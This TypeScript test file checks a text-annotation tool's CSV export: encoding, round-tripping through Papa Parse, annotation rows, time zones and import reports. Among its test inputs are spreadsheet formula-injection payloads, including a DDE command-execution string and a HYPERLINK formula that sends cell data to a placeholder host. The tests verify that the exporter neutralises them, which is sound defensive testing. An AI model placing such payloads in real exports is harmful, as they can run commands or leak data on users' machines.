import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { toCommaSeparated } from '../../src/core/exchange/comma-separated.ts';
import { concordanceTable } from '../../src/core/exchange/concordance-sheet.ts';
import { toCsv } from '../../src/core/exchange/csv.ts';
import type { Material } from '../../src/core/exchange/evidence.ts';
import { chooseEvidence } from '../../src/core/exchange/evidence.ts';
import { hitsTable } from '../../src/core/exchange/hits-sheet.ts';
import { importReportTable } from '../../src/core/exchange/import-report-sheet.ts';
import type { ReportFacts } from '../../src/core/model/report-facts.ts';
import { builtInAttributes } from '../../src/core/model/records.ts';
import type { FileOutcome } from '../../src/core/model/records.ts';
import { dateInWords } from '../../src/renderer/words/in-words.ts';
import { materialOf, placing, sampleMaterial, whole } from './exchange-material.ts';
import { projects, strings } from './exchange-projects.ts';
import { rowsInParts } from '../../src/renderer/commands/rows-in-parts.ts';
import { tableRows } from '../../src/core/exchange/saved-table.ts';
import type { TableColumns } from '../../src/core/exchange/saved-table.ts';
import { ok } from '../../src/core/model/result.ts';
import { asCsv } from './table-written.ts';

// What another program reads is the claim, so the files are read back with Papa Parse.

const rowsOf = (csv: string): string[][] =>
  Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', delimiter: ',' }).data.slice(0, -1);
const recordsOf = (csv: string): Record<string, string>[] =>
  Papa.parse<Record<string, string>>(csv.slice(1), {
    header: true,
    newline: '\r\n',
    delimiter: ',',
    skipEmptyLines: true,
  }).data;

/** The very words: without the one apostrophe that keeps spreadsheets from running them. */
const withoutApostrophe = (cell: string): string =>
  /^'+(?:[\t\r\n]|[\s\p{C}]*[=+\-@＝＋－＠﹦﹢﹣﹫⁺⁼−])/u.test(cell) ? cell.slice(1) : cell;
const cells = fc.oneof(
  strings,
  fc
    .tuple(fc.constantFrom("'", "''", ' ', ''), fc.constantFrom('=', '-', '@', '\t', '"', ','), strings)
    .map((all) => all.join('')),
);

describe('comma-separated values', () => {
  test('begin with a byte-order mark and end each row with CRLF', () => {
    expect(toCommaSeparated(['a', 'b'], [['один', 2]])).toBe('\ufeffa,b\r\nодин,2\r\n');
  });

  test('are read back as they were, whatever the cells hold, but for the apostrophe before a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(cells, strings, fc.nat()), { maxLength: 5 }), (rows) => {
        const read = rowsOf(toCommaSeparated(['x', 'y', 'z'], rows)).slice(1);
        expect(read.map((row) => row.map(withoutApostrophe))).toEqual(rows.map((row) => row.map(String)));
      }),
      { numRuns: 500 },
    );
  });

  test.each([
    ['=cmd|"/c calc"!A1'],
    ['+1+cmd'],
    ['-2+3'],
    ['@SUM(A1)'],
    ['\t=1'],
    ['\r=1'],
    ['\n=1'],
    [' =1'],
    ['\u200b=1'],
    ['\ufeff=1'],
    ['\0=1'],
    ['＝1+1'],
    ['＋1'],
    ['－1+1'],
    ['＠SUM(1)'],
    ['−1+1'],
    ["'=1"],
    ['=HYPERLINK("https://x.example?"&A1,"click")'],
  ])('take the formula out of %j', (cell) => {
    expect(rowsOf(toCommaSeparated(['x'], [[cell]]))[1]).toEqual([`'${cell}`]);
  });

  test.each([['-5'], ['+3.5'], ['-0,25'], ['a = b'], ['5-3'], ['me@x.example'], ['–'], ['— so it goes']])(
    'leave %j alone',
    (cell) => {
      expect(rowsOf(toCommaSeparated(['x'], [[cell]]))[1]).toEqual([cell]);
    },
  );
});

/** A whole project as CSV. */
function csvOf(material: Material, zone?: string): Promise<string> {
  const evidence = chooseEvidence(material, { kind: 'project' });
  return whole(toCsv(evidence, placing(evidence), zone));
}

describe('evidence as CSV', () => {
  test('has two columns more where an approximate quotation stands at other words', async () => {
    const [first, ...others] = sampleMaterial.annotations;
    const anchor = { kind: 'approximate' as const, score: 0.9999 };
    const quotation = { ...first!.quotation, exact: 'the old words' };
    const changed = { ...sampleMaterial, annotations: [{ ...first!, anchor, quotation }, ...others] };
    const rows = recordsOf(await csvOf(changed));
    const row = rows.find((one) => one['annotation id'] === first!.id)!;
    expect([row['quotation'], row['alike (percent)'], row['words now']]).toEqual([
      'the old words',
      '99',
      first!.quotation.exact,
    ]);
    expect(rows.find(({ anchor: kind }) => kind === 'exact')).toMatchObject({ 'alike (percent)': '', 'words now': '' });
  });

  test('has one row for each quotation and tag, and one for a quotation without', async () => {
    const rows = recordsOf(await csvOf(sampleMaterial, 'Pacific/Auckland'));
    const { annotations } = sampleMaterial;
    expect(rows).toHaveLength(annotations.reduce((sum, { tagIds }) => sum + Math.max(1, tagIds.length), 0));
    expect(rows.filter(({ tag }) => tag === '').map(({ quotation }) => quotation)).toEqual([
      'машины выехали лишь в 5:40',
    ]);
    expect(rows.find(({ quotation }) => quotation!.startsWith('The log of the ferry'))).toEqual({
      document: 'Eleven dead at Silo Four: a town counts its night shift',
      path: 'orvella-courier-2023-03-15.txt',
      language: 'en',
      date: '2023-03-15',
      outlet: 'The Orvella Courier',
      author: 'Tamsin Okerell',
      place: 'Orvella',
      url: 'https://orvella-courier.example/2023/03/15/silo-four',
      quotation: 'The log of the ferry company notes a "loud report from north quay" at 4:12.',
      tag: 'Event/Time',
      note: 'The only time that was written down when it happened.',
      speaker: '',
      passage: '6',
      passages: '10',
      line: '12',
      page: '',
      percent: '47',
      version: '1',
      from: '671',
      to: '746',
      'from (code points)': '671',
      'to (code points)': '746',
      anchor: 'exact',
      'annotated by': 'Lectern',
      tagged: '2026-01-15T22:00:00+13:00',
      'tagged by': 'Lectern',
      annotated: '2026-01-15T22:00:00+13:00',
      changed: '2026-01-15T22:00:00+13:00',
      'annotation id': expect.stringMatching(/^\w{20}$/),
      'document id': expect.stringMatching(/^\w{20}$/),
    });
  });

  test('tells an attribute from a column of the same name', async () => {
    const attributes = [...builtInAttributes, { ...builtInAttributes[0]!, id: 'x', name: 'Note', order: 9 }];
    const [header] = rowsOf(await csvOf({ ...sampleMaterial, attributes }));
    expect(header).toContain('Note (2)');
    expect(new Set(header).size).toBe(header!.length);
  });

  test('has no cell that a spreadsheet takes for a formula, whatever the project holds', async () => {
    await fc.assert(
      fc.asyncProperty(projects, async (content) => {
        const cells = rowsOf(await csvOf(materialOf(content))).flat();
        expect(cells.filter((cell) => /^[\s\p{C}]*[=+\-@＝＋－＠]/u.test(cell) && !/^[+-]\d+$/.test(cell))).toEqual([]);
      }),
    );
  });
});

test('search results as CSV name the passage, its matches and its document', async () => {
  const [document] = sampleMaterial.documents;
  const text = sampleMaterial.texts.get(document!.id)!;
  const from = text.indexOf('The blast');
  const noon = text.indexOf('noon');
  const passage = { document: document!, version: 1, passage: 2, from, to: text.indexOf('\n', from) };
  const hit = {
    ...passage,
    text: text.slice(from, passage.to),
    matches: [
      { from: from + 4, to: from + 9 },
      { from: noon, to: noon + 4 },
    ],
    annotationIds: ['m-1', 'm-2'],
  };
  expect(recordsOf(await asCsv(tableRows(hitsTable(builtInAttributes), [hit])))).toMatchObject([
    {
      document: document!.title.value,
      outlet: 'Lantern Wire',
      passage: '3',
      matches: '2',
      matched: 'blast | noon',
      'annotation ids': 'm-1 | m-2',
    },
  ]);
});

test.each([
  ['Pacific/Auckland', '2025-06-30T23:30+09:00'],
  ['America/New_York', '2025-06-30T00:10Z'],
  ['America/New_York', '2025-06-30'],
])('hits and concordance read in %s have the day that the text gives, %s, as the screen does', async (zone, value) => {
  const [sample] = sampleMaterial.documents;
  const origin = { kind: 'person' } as const;
  const document = { ...sample!, attributes: { date: { value, origin } } };
  const place = { document, version: 1, passage: 0, from: 0, to: 5 };
  const before = process.env['TZ'];
  process.env['TZ'] = zone;
  try {
    const hit = { ...place, text: 'blast', matches: [], annotationIds: [] };
    const hits = await asCsv(tableRows(hitsTable(builtInAttributes), [hit]));
    const line = { ...place, left: '', node: 'blast', right: '' };
    const lines = await asCsv(tableRows(concordanceTable(builtInAttributes), [line]));
    for (const csv of [hits, lines]) expect(recordsOf(csv)).toMatchObject([{ date: value }]);
    expect(dateInWords(value)).toContain('30');
  } finally {
    if (before === undefined) delete process.env['TZ'];
    else process.env['TZ'] = before;
  }
});

test('an import report as CSV names every file, its outcome and the reason', async () => {
  const run = {
    id: 'i',
    name: 'Archiv',
    source: 'folder',
    started: '2026-01-01T00:00:00.000Z',
    finished: null,
    state: 'done',
  } as const;
  const version = sampleMaterial.documents[0]!.versions[0]!;
  const before = { ...sampleMaterial.documents[0]!, id: 'e' };
  const facts: ReportFacts = {
    madeWay: ({ path }) => (path === 'copy.txt' ? before : null),
    unseen: ({ path }) => (path === 'переименована.txt' ? { ...before, path: 'было.txt' } : null),
    marks: ({ kind }) =>
      kind === 'new-version' ? { kept: 2, moved: 0, changed: 0, lost: 1, comments: 3, highlights: 0 } : null,
    format: ({ kind }) => (kind === 'imported' ? 'html' : null),
  };
  const files: readonly FileOutcome[] = [
    { path: 'статья.txt', bytes: 10, kind: 'imported', documentId: 'd' },
    { path: '=2+2.txt', bytes: 0, kind: 'skipped', reason: 'empty' },
    { path: 'a\nb.txt', bytes: 5, kind: 'failed', reason: 'no-permission', detail: 'EACCES' },
    { path: 'copy.txt', bytes: 10, kind: 'duplicate', documentId: 'd', version, kept: null },
    { path: 'переименована.txt', bytes: 9, kind: 'duplicate', documentId: 'e', version, kept: null },
    { path: 'new.txt', bytes: 12, kind: 'new-version', documentId: 'd', version: 2 },
  ];
  const report = importReportTable(
    run,
    files,
    new Map([
      ['d', 'Статья'],
      ['e', 'Прежняя'],
    ]),
    facts,
    new Map([
      [files[0]!, { comments: 3, deletions: 1 }],
      [files[3]!, { remarks: 2 }],
    ]),
  );
  const csv = await asCsv(report);
  expect(rowsOf(csv).map((row) => row.at(-2))).toEqual([
    'left out',
    'comments 3, deletions 1',
    ...['', '', 'remarks 2', '', ''],
  ]);
  expect(rowsOf(csv).map((row) => row.slice(0, 6))).toEqual([
    ['path', 'outcome', 'reason', 'detail', 'bytes', 'document'],
    ['статья.txt', 'imported', '', '', '10', 'Статья'],
    ["'=2+2.txt", 'skipped', 'empty', '', '0', ''],
    ['a\nb.txt', 'failed', 'no-permission', 'EACCES', '5', ''],
    ['copy.txt', 'duplicate', 'same-text', 'Прежняя', '10', 'Статья'],
    ['переименована.txt', 'duplicate', 'same-text-not-seen-at-its-place', 'было.txt', '9', 'Прежняя'],
    ['new.txt', 'new-version', '', 'version 2; marks: 2 kept, 1 lost; new: 3 comments', '12', 'Статья'],
  ]);
  expect(rowsOf(csv).map((row) => row.at(-1))).toEqual(['format', 'html', '', '', '', '', '']);
});

test('what is said of all of a search stands in a column of the first row, or alone where nothing was found', async () => {
  const document = sampleMaterial.documents[0]!;
  const place = { document, version: 1, passage: 0, from: 0, to: 5 };
  const hit = { ...place, text: 'blast', matches: [], annotationIds: [] };
  const said = ['Not complete.', 'Counted once.'];
  const remarks = async (table: Parameters<typeof asCsv>[0]) =>
    recordsOf(await asCsv(table)).map((row) => row['remark']);
  const inParts = <T>(columns: TableColumns<T>, ...parts: readonly (readonly T[])[]) => {
    async function* some() {
      for (const part of parts) yield await Promise.resolve(ok(part));
    }
    return { header: columns.header, rows: rowsInParts(columns, some(), said) };
  };
  const hits = () => hitsTable(builtInAttributes, said);
  expect(await remarks(inParts(hits(), [hit], [hit]))).toEqual(['Not complete. Counted once.', '']);
  expect(recordsOf(await asCsv(inParts(hits(), [])))).toMatchObject([
    { document: '', remark: 'Not complete. Counted once.' },
  ]);
  expect(await asCsv(tableRows(hitsTable(builtInAttributes), [hit]))).not.toContain('remark');
  const line = { ...place, left: '', node: 'blast', right: '' };
  expect(await remarks(inParts(concordanceTable(builtInAttributes, said), [line]))).toEqual([
    'Not complete. Counted once.',
  ]);
});
